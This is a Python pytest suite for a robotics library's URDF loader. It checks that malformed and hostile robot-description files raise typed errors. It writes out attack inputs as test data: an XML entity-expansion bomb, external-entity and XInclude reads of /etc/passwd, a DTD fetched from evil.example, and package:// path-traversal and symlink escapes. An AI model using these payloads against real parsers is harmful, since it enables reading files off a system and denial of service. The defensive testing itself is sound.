"""A hostile-URDF corpus, generated here: every file either loads (when it is legitimate) or
raises a typed :mod:`anthroarm.errors` exception naming the problem; nothing crashes, hangs or
reads a file outside where it belongs.

Families: entity and DTD tricks, XInclude and processing instructions, structure (cycles,
duplicates, missing parents, two roots, depth), numbers (NaN, inf, 1e308, absurd but finite
geometry, masses, inertias, axes, limits), meshes and URIs (``package://`` escapes, symlinks,
directories), names (empty, unicode, very long, XML-special).

Cases that reach Pinocchio's C++ with unusual input run in a subprocess with a timeout, so a
crash there is reported as a failure of that case instead of taking the test run down.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest

import anthroarm as aa
from anthroarm import errors

LIMIT = "<limit lower='-1' upper='1' effort='1' velocity='1'/>"


def joint(
    name="j1",
    parent="base",
    child="l1",
    jtype="revolute",
    origin="<origin xyz='0 0 0.1' rpy='0 0 0'/>",
    axis="<axis xyz='0 0 1'/>",
    limit=LIMIT,
    extra="",
):
    return (
        f"<joint name='{name}' type='{jtype}'><parent link='{parent}'/><child link='{child}'/>"
        f"{origin}{axis}{limit}{extra}</joint>"
    )


def robot(links=None, joints=None, name="hostile", head=""):
    links = "<link name='base'/><link name='l1'/>" if links is None else links
    joints = joint() if joints is None else joints
    return f"{head}<robot name='{name}'>{links}{joints}</robot>"


def inertial(
    mass="1", origin="0 0 0", ixx="0.01", iyy="0.01", izz="0.01", ixy="0", ixz="0", iyz="0"
):
    return (
        f"<inertial><origin xyz='{origin}' rpy='0 0 0'/><mass value='{mass}'/><inertia ixx='{ixx}' "
        f"ixy='{ixy}' ixz='{ixz}' iyy='{iyy}' iyz='{iyz}' izz='{izz}'/></inertial>"
    )


def l1_with(body):
    return f"<link name='base'/><link name='l1'>{body}</link>"


def visual(geometry, origin="0 0 0"):
    return f"<visual><origin xyz='{origin}' rpy='0 0 0'/><geometry>{geometry}</geometry></visual>"


def chain(n):
    links = "".join(f"<link name='l{i}'/>" for i in range(n))
    joints = "".join(joint(f"j{i}", f"l{i - 1}", f"l{i}") for i in range(1, n))
    return robot(links, joints)


def nested(depth):
    return robot("<link name='base'/><link name='l1'>" + "<a>" * depth + "</a>" * depth + "</link>")


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
    '"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d '
    '"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)

LOADS = None  # expected outcome: the file is legitimate and loads

#: (id, text or callable(tmp_path) -> text, expected exception type or LOADS, substring of the
#: message)
CASES = [
    # ---------------------------------------------------------------- entities, DTD, XML tricks
    ("entity-bomb", BOMB + robot(name="&d;"), errors.URDFSecurityError, "DTD"),
    (
        "external-entity",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + robot(name="&x;"),
        errors.URDFSecurityError,
        "DTD",
    ),
    (
        "parameter-entity",
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + robot(),
        errors.URDFSecurityError,
        "DTD",
    ),
    ("doctype-lowercase", "<!doctype robot>" + robot(), errors.URDFSecurityError, "DTD"),
    (
        "entity-without-doctype",
        "<robot name='r'><!ENTITY x 'y'><link name='a'/></robot>",
        errors.URDFSecurityError,
        "DTD",
    ),
    ("undefined-entity", robot(name="&xxe;"), errors.URDFSyntaxError, "malformed XML"),
    ("character-references", robot(name="&#104;&#105;"), LOADS, ""),
    (
        "xinclude-not-processed",
        robot(
            links="<link name='base'/><link name='l1'/>"
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
            "href='/etc/passwd' parse='text'/>"
        ),
        LOADS,
        "",
    ),
    (
        "processing-instruction",
        '<?xml-stylesheet href="http://evil.example/x.xsl"?>' + robot(),
        LOADS,
        "",
    ),
    (
        "cdata-name",
        "<robot name='r'><link name='base'/><link name='l1'><![CDATA[<joint/>]]></link>"
        + joint()
        + "</robot>",
        LOADS,
        "",
    ),
    ("empty-file", "", errors.URDFSyntaxError, "malformed XML"),
    ("binary-garbage", bytes(range(256)) * 4, errors.URDFSyntaxError, ""),
    (
        "utf16-file",
        ('<?xml version="1.0" encoding="UTF-16"?>' + robot()).encode("utf-16"),
        errors.URDFSyntaxError,
        "UTF-8",
    ),
    ("not-a-robot", "<sdf><model/></sdf>", errors.URDFSyntaxError, "expected <robot>"),
    ("deep-xml-nesting", nested(100_000), errors.URDFSyntaxError, "malformed XML"),
    ("truncated", robot()[:-10], errors.URDFSyntaxError, "malformed XML"),
    # ---------------------------------------------------------------- structure
    ("no-links", "<robot name='r'/>", errors.URDFStructureError, "no <link>"),
    (
        "cycle",
        robot("<link name='a'/><link name='b'/>", joint("j1", "a", "b") + joint("j2", "b", "a")),
        errors.URDFStructureError,
        "cycle",
    ),
    (
        "self-loop",
        robot(joints=joint() + joint("j2", "l1", "l1")),
        errors.URDFStructureError,
        "two joints",
    ),
    (
        "duplicate-link",
        robot("<link name='base'/><link name='l1'/><link name='l1'/>"),
        errors.URDFStructureError,
        "defined twice",
    ),
    (
        "duplicate-joint",
        robot(
            "<link name='base'/><link name='l1'/><link name='l2'/>",
            joint() + joint("j1", "l1", "l2"),
        ),
        errors.URDFStructureError,
        "defined twice",
    ),
    (
        "missing-parent-link",
        robot(joints=joint(parent="ghost")),
        errors.URDFStructureError,
        "'ghost' is not defined",
    ),
    (
        "missing-parent-element",
        robot(joints="<joint name='j1' type='fixed'><child link='l1'/></joint>"),
        errors.URDFStructureError,
        "needs <parent>",
    ),
    (
        "two-roots",
        robot("<link name='base'/><link name='l1'/><link name='island'/>"),
        errors.URDFStructureError,
        "2 roots",
    ),
    (
        "unknown-joint-type",
        robot(joints=joint(jtype="spherical")),
        errors.URDFStructureError,
        "unknown type",
    ),
    (
        "floating-joint",
        robot(joints=joint(jtype="floating", limit="")),
        errors.UnsupportedModelError,
        "j1",
    ),
    (
        "planar-joint",
        robot(joints=joint(jtype="planar", limit="")),
        errors.UnsupportedModelError,
        "j1",
    ),
    (
        "revolute-without-limit",
        robot(joints=joint(limit="")),
        errors.URDFStructureError,
        "no <limit>",
    ),
    (
        "inverted-limits",
        robot(joints=joint(limit="<limit lower='1' upper='-1' effort='1' velocity='1'/>")),
        errors.URDFStructureError,
        "lower limit",
    ),
    (
        "mimic-unknown",
        robot(joints=joint(extra="<mimic joint='ghost'/>")),
        errors.URDFStructureError,
        "ghost",
    ),
    (
        "mimic-multiplier-0",
        robot(
            "<link name='base'/><link name='l1'/><link name='l2'/>",
            joint() + joint("j2", "l1", "l2", extra="<mimic joint='j1' multiplier='0'/>"),
        ),
        errors.UnsupportedModelError,
        "multiplier 0",
    ),
    # Pinocchio's data grows as n³ (a 1000-joint chain was an out-of-memory kill): refused up front
    ("chain-of-3000", chain(3000), errors.URDFStructureError, "at most 200"),
    ("chain-of-150", chain(151), LOADS, ""),
    (
        "name-shared-by-link-and-joint",
        robot("<link name='base'/><link name='x'/>", joint("x", "base", "x")),
        LOADS,
        "",
    ),
    # ---------------------------------------------------------------- numbers
    (
        "origin-nan",
        robot(joints=joint(origin="<origin xyz='nan 0 0'/>")),
        errors.URDFStructureError,
        "non-finite",
    ),
    (
        "origin-inf",
        robot(joints=joint(origin="<origin xyz='0 inf 0'/>")),
        errors.URDFStructureError,
        "non-finite",
    ),
    (
        "origin-1e308",
        robot(joints=joint(origin="<origin xyz='1e308 0 0'/>")),
        errors.URDFStructureError,
        "joint 'j1' origin xyz",
    ),
    (
        "origin-1e5",
        robot(joints=joint(origin="<origin xyz='0 0 1e5'/>")),
        errors.URDFStructureError,
        "1e+04",
    ),
    (
        "rpy-inf",
        robot(joints=joint(origin="<origin xyz='0 0 0' rpy='0 -inf 0'/>")),
        errors.URDFStructureError,
        "rpy",
    ),
    (
        "not-a-number",
        robot(joints=joint(origin="<origin xyz='0 zero 0'/>")),
        errors.URDFStructureError,
        "not a number",
    ),
    (
        "two-numbers-for-three",
        robot(joints=joint(origin="<origin xyz='0 0'/>")),
        errors.URDFStructureError,
        "expected 3",
    ),
    ("mass-nan", robot(l1_with(inertial(mass="nan"))), errors.URDFStructureError, "mass"),
    ("mass-negative", robot(l1_with(inertial(mass="-1"))), errors.URDFStructureError, "mass"),
    (
        "mass-1e300",
        robot(l1_with(inertial(mass="1e300"))),
        errors.URDFStructureError,
        "link 'l1': mass",
    ),
    ("inertia-nan", robot(l1_with(inertial(ixx="nan"))), errors.URDFStructureError, "inertia ixx"),
    (
        "inertia-1e300",
        robot(l1_with(inertial(izz="1e300"))),
        errors.URDFStructureError,
        "inertia izz",
    ),
    (
        "inertial-origin-1e308",
        robot(l1_with(inertial(origin="1e308 0 0"))),
        errors.URDFStructureError,
        "inertial origin",
    ),
    # a non-physical (indefinite) inertia is kept for kinematics; dynamics refuses it (InertiaError)
    ("inertia-indefinite", robot(l1_with(inertial(ixx="-1", ixy="5"))), LOADS, ""),
    (
        "axis-zero",
        robot(joints=joint(axis="<axis xyz='0 0 0'/>")),
        errors.URDFStructureError,
        "zero-length axis",
    ),
    (
        "axis-nan",
        robot(joints=joint(axis="<axis xyz='nan 0 1'/>")),
        errors.URDFStructureError,
        "axis",
    ),
    ("axis-unnormalised", robot(joints=joint(axis="<axis xyz='0 0 7'/>")), LOADS, ""),
    (
        "axis-tiny",
        robot(joints=joint(axis="<axis xyz='0 0 1e-300'/>")),
        errors.URDFStructureError,
        "zero-length",
    ),
    (
        "limits-1e308-revolute",
        robot(joints=joint(limit="<limit lower='-1e308' upper='1e308' effort='1' velocity='1'/>")),
        LOADS,
        "",
    ),
    (
        "limits-1e308-prismatic",
        robot(
            joints=joint(
                jtype="prismatic",
                limit="<limit lower='-1e308' upper='1e308' effort='1' velocity='1'/>",
            )
        ),
        LOADS,
        "",
    ),
    (
        "limit-1e50-prismatic",
        robot(
            joints=joint(
                jtype="prismatic", limit="<limit lower='0' upper='1e50' effort='1' velocity='1'/>"
            )
        ),
        errors.URDFStructureError,
        "upper limit",
    ),
    (
        "limit-nan",
        robot(joints=joint(limit="<limit lower='nan' upper='1' effort='1' velocity='1'/>")),
        errors.URDFStructureError,
        "lower limit",
    ),
    (
        "effort-negative",
        robot(joints=joint(limit="<limit lower='-1' upper='1' effort='-1' velocity='1'/>")),
        errors.URDFStructureError,
        "negative effort",
    ),
    (
        "velocity-inf",
        robot(joints=joint(limit="<limit lower='-1' upper='1' effort='1' velocity='inf'/>")),
        errors.URDFStructureError,
        "velocity",
    ),
    (
        "mimic-multiplier-nan",
        robot(
            "<link name='base'/><link name='l1'/><link name='l2'/>",
            joint() + joint("j2", "l1", "l2", extra="<mimic joint='j1' multiplier='nan'/>"),
        ),
        errors.URDFStructureError,
        "multiplier",
    ),
    (
        "mesh-scale-1e308",
        lambda d: robot(l1_with(visual(f"<mesh filename='{mesh(d)}' scale='1e308 1 1'/>"))),
        errors.URDFStructureError,
        "scale",
    ),
    (
        "visual-origin-1e308",
        robot(l1_with(visual("<box size='1 1 1'/>", origin="0 1e308 0"))),
        errors.URDFStructureError,
        "link 'l1' visual origin",
    ),
    (
        "box-1e308",
        robot(l1_with(visual("<box size='1e308 1 1'/>"))),
        errors.URDFStructureError,
        "box size",
    ),
    (
        "sphere-negative",
        robot(l1_with(visual("<sphere radius='-1'/>"))),
        errors.URDFStructureError,
        "radius",
    ),
    (
        "cylinder-nan",
        robot(l1_with(visual("<cylinder radius='0.1' length='nan'/>"))),
        errors.URDFStructureError,
        "length",
    ),
    ("tiny-but-finite", robot(joints=joint(origin="<origin xyz='1e-320 0 0'/>")), LOADS, ""),
    # ---------------------------------------------------------------- meshes and URIs
    (
        "package-empty-name",
        robot(l1_with(visual("<mesh filename='package:///etc/passwd'/>"))),
        errors.PackagePathError,
        "not a package name",
    ),
    (
        "package-dotdot-name",
        robot(l1_with(visual("<mesh filename='package://../etc/passwd'/>"))),
        errors.PackagePathError,
        "not a package name",
    ),
    (
        "package-escape",
        lambda d: robot(l1_with(visual("<mesh filename='package://pkg/../../../etc/passwd'/>"))),
        errors.PackagePathError,
        "escapes",
    ),
    (
        "package-symlink-out",
        lambda d: robot(l1_with(visual(f"<mesh filename='package://pkg/{symlink_out(d)}'/>"))),
        errors.PackagePathError,
        "escapes",
    ),
    (
        "package-unknown",
        robot(l1_with(visual("<mesh filename='package://no_such_pkg/m.stl'/>"))),
        errors.PackagePathError,
        "unknown package",
    ),
    (
        "package-ok",
        lambda d: robot(l1_with(visual("<mesh filename='package://pkg/meshes/m.stl'/>"))),
        LOADS,
        "",
    ),
    (
        "mesh-missing",
        robot(l1_with(visual("<mesh filename='meshes/none.stl'/>"))),
        errors.MeshNotFoundError,
        "none.stl",
    ),
    (
        "mesh-is-a-folder",
        lambda d: robot(l1_with(visual(f"<mesh filename='{d}'/>"))),
        errors.MeshNotFoundError,
        "not found",
    ),
    (
        "mesh-empty-filename",
        robot(l1_with(visual("<mesh filename=''/>"))),
        errors.URDFStructureError,
        "filename",
    ),
    (
        "mesh-http",
        robot(l1_with(visual("<mesh filename='http://evil.example/m.stl'/>"))),
        errors.MeshNotFoundError,
        "not found",
    ),
    # ---------------------------------------------------------------- names
    (
        "empty-link-name",
        robot("<link name=''/><link name='l1'/>"),
        errors.URDFStructureError,
        "without a name",
    ),
    ("empty-joint-name", robot(joints=joint(name="")), errors.URDFStructureError, "without a name"),
    (
        "unicode-names",
        robot(
            "<link name='Basis_äöü'/><link name='肘_💪'/>", joint("关节_ß", "Basis_äöü", "肘_💪")
        ),
        LOADS,
        "",
    ),
    (
        "very-long-names",
        robot(
            f"<link name='{'b' * 50_000}'/><link name='l1'/>",
            joint("j" * 50_000, "b" * 50_000, "l1"),
        ),
        LOADS,
        "",
    ),
    (
        "xml-special-names",
        robot(
            "<link name='a&lt;b&amp;c&quot;'/><link name=\"l'1\"/>",
            joint("j&gt;1", "a&lt;b&amp;c&quot;", "l&apos;1"),
        ),
        LOADS,
        "",
    ),
    (
        "whitespace-names",
        robot("<link name=' base '/><link name='l&#10;1'/>", joint("j 1", " base ", "l&#10;1")),
        LOADS,
        "",
    ),
]

#: cases whose input reaches Pinocchio's C++ in an unusual shape: run in a subprocess
SUBPROCESS = {
    "chain-of-3000",
    "chain-of-150",
    "name-shared-by-link-and-joint",
    "unicode-names",
    "very-long-names",
    "xml-special-names",
    "whitespace-names",
    "floating-joint",
    "planar-joint",
    "mimic-multiplier-0",
    "limits-1e308-revolute",
    "limits-1e308-prismatic",
    "inertia-indefinite",
}


def mesh(d: Path) -> Path:
    return d / "pkg" / "meshes" / "m.stl"


def symlink_out(d: Path) -> str:
    return "meshes/link_out.stl"


def make_tree(d: Path) -> None:
    """A package ``pkg`` with one mesh, and a symlink inside it to a file outside it."""
    (d / "pkg" / "meshes").mkdir(parents=True)
    mesh(d).write_text("solid m\nendsolid m\n")
    (d / "secret.stl").write_text("solid secret\nendsolid secret\n")
    os.symlink(d / "secret.stl", d / "pkg" / "meshes" / "link_out.stl")


def write_case(tmp_path: Path, body) -> Path:
    make_tree(tmp_path)
    text = body(tmp_path) if callable(body) else body
    p = tmp_path / "pkg" / "robot.urdf"
    p.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return p


def check_loaded(robot) -> None:
    """A legitimate file: random configurations inside the limits, finite poses."""
    q = robot.random_q(50, rng=0)
    assert np.all(np.isfinite(q)) and np.all(robot.within_limits(q))
    assert np.all(np.isfinite(robot.fk(q)))
    assert np.all(np.isfinite(robot.fk(q[0])))


CHILD = textwrap.dedent("""
    import json, sys
    import numpy as np
    import anthroarm as aa
    sys.path.insert(0, {here!r})
    from test_hostile_urdf import check_loaded
    try:
        r = aa.load(sys.argv[1], package_dirs=[sys.argv[2]], tool=sys.argv[3] or None)
        check_loaded(r)
        print(json.dumps({{"ok": True}}))
    except Exception as exc:
        mro = [c.__name__ for c in type(exc).__mro__]
        print(json.dumps({{"ok": False, "type": type(exc).__name__, "mro": mro,
                          "msg": str(exc)}}))
""")


def load_case(p: Path, case_id: str, tool):
    if case_id not in SUBPROCESS:
        r = aa.load(str(p), package_dirs=[str(p.parent.parent)], tool=tool)
        check_loaded(r)
        return None
    code = CHILD.format(here=str(Path(__file__).parent))
    res = subprocess.run(
        [sys.executable, "-c", code, str(p), str(p.parent.parent), tool or ""],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert res.returncode == 0, (
        f"{case_id}: the loader crashed (exit {res.returncode}): {res.stderr[-2000:]}"
    )
    return json.loads(res.stdout.strip().splitlines()[-1])


TOOLS = {
    "chain-of-3000": "l2999",
    "chain-of-150": "l150",
    "unicode-names": "肘_💪",
    "xml-special-names": "l'1",
    "whitespace-names": "l\n1",
    "name-shared-by-link-and-joint": "x",
    "very-long-names": "l1",
}


@pytest.mark.parametrize("case_id, body, expected, needle", CASES, ids=[c[0] for c in CASES])
def test_hostile_urdf(tmp_path, case_id, body, expected, needle):
    p = write_case(tmp_path, body)
    tool = TOOLS.get(case_id, "l1" if expected is LOADS else None)
    if expected is LOADS:
        out = load_case(p, case_id, tool)
        assert out is None or out["ok"], out
        return
    if case_id in SUBPROCESS:
        out = load_case(p, case_id, tool)
        assert not out["ok"], f"{case_id} loaded"
        assert expected.__name__ in out["mro"], out
        assert needle in out["msg"], out
        return
    with pytest.raises(errors.AnthroarmError) as ei:
        aa.load(str(p), package_dirs=[str(tmp_path)], tool=tool)
    assert isinstance(ei.value, expected), (type(ei.value), str(ei.value))
    assert needle in str(ei.value), str(ei.value)


def test_xinclude_is_not_expanded(tmp_path):
    """XInclude is never processed: the text Pinocchio and yourdfpy read is the file's text."""
    secret = tmp_path / "secret.xml"
    secret.write_text("<link name='smuggled'/>")
    p = tmp_path / "r.urdf"
    p.write_text(
        robot(
            links="<link name='base'/><link name='l1'/>"
            f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{secret}'/>"
        )
    )
    r = aa.load(str(p), tool="l1")
    assert "smuggled" not in r.info.links and "smuggled" not in r.frame_names


def test_file_uri_outside_the_urdf_folder_is_honoured(tmp_path):
    """Documented policy (SECURITY.md): ``file://`` and plain absolute mesh paths are taken as
    written (the URDF's author chose them); only ``package://`` URIs are confined to their
    package.  This test pins the policy so that a change is deliberate."""
    outside = tmp_path / "elsewhere" / "m.stl"
    outside.parent.mkdir()
    outside.write_text("solid m\nendsolid m\n")
    p = tmp_path / "robots" / "r.urdf"
    p.parent.mkdir()
    p.write_text(robot(l1_with(visual(f"<mesh filename='file://{outside}'/>"))))
    r = aa.load(str(p), tool="l1")
    assert r.info.meshes[f"file://{outside}"] == outside.resolve()


@pytest.mark.parametrize(
    "package_dirs, needle",
    [
        ({"x": None}, "root of package 'x'"),
        ({"": "/"}, "not a package name"),
        ({"..": "/"}, "not a package name"),
        ({"a/b": "/"}, "not a package name"),
        ({".": "/"}, "not a package name"),
        ([None], "entry 0"),
        (5, "got int"),
    ],
)
def test_package_dirs_abuse_is_a_parameter_error(tmp_path, package_dirs, needle):
    p = write_case(tmp_path, robot())
    with pytest.raises(errors.ParameterError, match=needle):
        aa.load(str(p), package_dirs=package_dirs, tool="l1")


def test_resolve_uri_refuses_the_empty_package_name_with_any_package_dirs(tmp_path):
    """``package:///etc/passwd``: the empty name would match '/' as a search folder's child."""
    from anthroarm.urdf_io import resolve_uri

    for dirs in (None, ["/"], {"": "/"}, "/", [str(tmp_path)]):
        with pytest.raises((errors.PackagePathError, errors.ParameterError)):
            resolve_uri("package:///etc/passwd", tmp_path / "r.urdf", dirs)


def test_robot_with_huge_limits_samples_finite_and_solves(tmp_path):
    """±1e308 limits are no limits: random_q, within_limits and ik.solve stay finite."""
    j = (
        joint(
            "j1",
            "base",
            "l1",
            axis="<axis xyz='0 0 1'/>",
            limit="<limit lower='-1e308' upper='1e308' effort='1' velocity='1'/>",
        )
        + joint(
            "j2",
            "l1",
            "l2",
            origin="<origin xyz='0.3 0 0'/>",
            axis="<axis xyz='0 1 0'/>",
            limit="<limit lower='-1e308' upper='1e308' effort='1' velocity='1'/>",
        )
        + joint(
            "j3",
            "l2",
            "l3",
            jtype="prismatic",
            origin="<origin xyz='0.3 0 0'/>",
            axis="<axis xyz='1 0 0'/>",
            limit="<limit lower='-1e308' upper='1e308' effort='1' velocity='1'/>",
        )
    )
    p = tmp_path / "huge.urdf"
    p.write_text(robot("<link name='base'/><link name='l1'/><link name='l2'/><link name='l3'/>", j))
    r = aa.load(str(p))
    assert np.all(np.isinf(r.lower)) and np.all(np.isinf(r.upper))
    q = r.random_q(200, rng=1)
    assert np.all(np.isfinite(q)) and np.all(r.within_limits(q))
    assert np.isfinite(r.chain.reach())
    T = r.fk(q[0])
    res = aa.ik.solve(r, T)
    assert res.q is not None and np.all(np.isfinite(res.q)), res
    assert res.status != "out_of_reach", res
